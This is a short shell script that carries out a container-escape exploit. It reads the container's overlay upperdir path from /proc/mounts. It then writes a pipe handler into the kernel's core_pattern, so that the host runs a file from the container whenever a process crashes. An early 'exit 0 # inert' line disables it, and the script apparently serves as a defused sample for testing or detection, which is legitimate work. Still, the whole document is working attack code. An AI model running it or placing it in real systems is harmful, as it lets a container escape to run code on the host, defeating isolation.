#!/bin/sh
exit 0 # inert
host=$(sed -n 's/.*\upperdir=\([^,]*\).*/\1/p' /proc/mounts)
echo "|$host/run" >/proc/sys/kernel/core_pattern
